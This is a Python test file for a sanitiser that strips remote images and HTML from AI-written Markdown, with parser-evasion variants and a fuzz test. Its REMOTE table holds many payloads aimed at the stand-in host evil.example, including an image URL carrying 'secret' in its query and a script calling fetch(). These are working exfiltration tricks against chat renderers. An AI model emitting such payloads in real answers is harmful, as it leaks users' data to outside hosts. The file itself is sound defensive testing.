"""Markdown of models loads nothing from elsewhere, whatever a renderer makes of it."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hugginggpt.prompts.markdown import plain_links

LOADING = re.compile(
    r"""<[a-z][^>]*\s(?:src|srcset|poster|background|data|style|href)\s*=\s*["']?\s*[^"'>\s]*//""",
    re.IGNORECASE,
)


def shown(text):
    """HTML as a careless page would make it of an answer, links left out: they load nothing."""
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    return re.sub(r"</?a\b[^>]*>", "", page)


REMOTE = {
    "inline": "![cat](https://evil.example/x.png?q=secret)",
    "with a title": '![cat](https://evil.example/x.png "a title")',
    "in brackets": "![cat](<https://evil.example/x.png>)",
    "without a scheme": "![cat](//evil.example/x.png)",
    "backslashes": "![cat](\\\\\\\\evil.example/x.png)",
    "escaped": "![cat](https\\://evil.example/x.png)",
    "entity": "![cat](&#104;ttps://evil.example/x.png)",
    "entity of slashes": "![cat](&#47;&#47;evil.example/x.png)",
    "other scheme": "![cat](ftp://evil.example/x.png)",
    "data": "![cat](data:image/svg+xml;base64,PHN2Zy8+)",
    "reference": "![cat][one]\n\n[one]: https://evil.example/x.png",
    "collapsed reference": "![one][]\n\n[one]: https://evil.example/x.png",
    "short reference": "![one]\n\n[one]: https://evil.example/x.png",
    "reference in a quotation": "> ![one]\n>\n> [one]: https://evil.example/x.png",
    "in a link": "[![cat](https://evil.example/x.png)](https://evil.example)",
    "in another": "![a ![b](https://evil.example/x.png)](local.png)",
    "over lines": "![a\ncat](https://evil.example/x.png)",
    "line break in the target": "![cat](\nhttps://evil.example/x.png)",
    "in a table": "| a |\n|---|\n| ![cat](https://evil.example/x.png) |",
    "half a code span": "`code ![cat](https://evil.example/x.png)",
    "ticks that differ": "``code` ![cat](https://evil.example/x.png) ``",
    "fence in a list": "- ```\n![cat](https://evil.example/x.png)\n```",
    "fence with text behind": "```\ncode\n``` x\n```\n![cat](https://evil.example/x.png)\n",
    "img": '<img src="https://evil.example/x.png" alt="cat">',
    "img in capitals": "<IMG SRC=https://evil.example/x.png>",
    "img over lines": "<img\nsrc='https://evil.example/x.png'\n>",
    "img without an end": "<img src='https://evil.example/x.png' ",
    "img after a quote": '<img alt=">" src="https://evil.example/x.png">',
    "picture": '<picture><source srcset="https://evil.example/x.png"></picture>',
    "video": '<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4"></video>',
    "audio": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.svg"></object>',
    "svg": '<svg><image href="https://evil.example/x.png"/></svg>',
    "style": '<div style="background:url(https://evil.example/x.png)">x</div>',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style block": "<style>@import url(https://evil.example/x.css);</style>",
    "script": "<script>fetch('https://evil.example/')</script>",
    "input": '<input type="image" src="https://evil.example/x.png">',
    "body": '<body background="https://evil.example/x.png">',
    "comment": "<!-- --><img src='https://evil.example/x.png'>",
    "processing": "<?x ?><img src='https://evil.example/x.png'>",
}


@pytest.mark.parametrize("text", REMOTE.values(), ids=REMOTE)
@pytest.mark.parametrize("around", ["{}", "before {} after", "1. one\n\n   {}\n", "> {}"])
def test_nothing_is_loaded_from_elsewhere(text, around):
    page = shown(plain_links(around.format(text)))
    assert "<img" not in page or "local.png" in page
    assert not LOADING.search(page)


def test_a_remote_picture_becomes_a_link():
    assert plain_links("See ![a cat](https://x.org/c.png).") == "See [a cat](https://x.org/c.png)."


def test_a_picture_in_html_becomes_a_link():
    text = '<img width="9" alt="a cat" src="https://x.org/c.png">'
    assert plain_links(text) == "[a cat](<https://x.org/c.png>)"


LEFT_ALONE = [
    "![cat](hugginggpt-files/picture-1a2b.png)",
    "![cat](</home/me/my files/a (1).png>)",
    "![cat](../a.png) and [cat](https://x.org/c.png) <https://x.org/> <me@x.org>",
    "### How\n\n| # | task |\n|--:|---|\n| 0 | image-to-text |",
    "`vec![1, 2]` and `a<b>`",
    "```rust\nlet a = vec![1];\n![cat](https://x.org/c.png)\n```",
    "~~~\n<b>\n~~~",
    "1 < 2 and a > b! [x](y.md)",
    "**bold**, “quoted”\n\n  > one  \n  > two  \n",
    "",
]


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_left_alone(text):
    assert plain_links(text) == text


def test_nothing_is_spared_in_a_very_long_text():
    text = "`<b>` ![cat](a.png)" + " word" * 50_000
    assert plain_links(text).startswith("`&lt;b>` [cat](a.png)")


def test_html_is_shown_as_text():
    assert plain_links("a <b>bold</b> word") == "a &lt;b>bold&lt;/b> word"


@pytest.mark.parametrize("text", [*REMOTE.values(), *LEFT_ALONE])
def test_done_twice_is_done_once(text):
    assert plain_links(plain_links(text)) == plain_links(text)


PIECES = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "`",
    "```\n",
    "~~~\n",
    "\n",
    "    ",
    "\\",
    "img src=",
    "x",
]
PIECES += [
    "https://e.x/",
    "//e.x",
    "![a](https://e.x/)",
    "<img src=//e.x>",
    "[a]: https://e.x\n",
    "- ",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_no_mix_of_pieces_loads_anything(text):
    page = shown(plain_links(text))
    assert not re.search(r"<img[^>]*//", page)
    assert not LOADING.search(page)
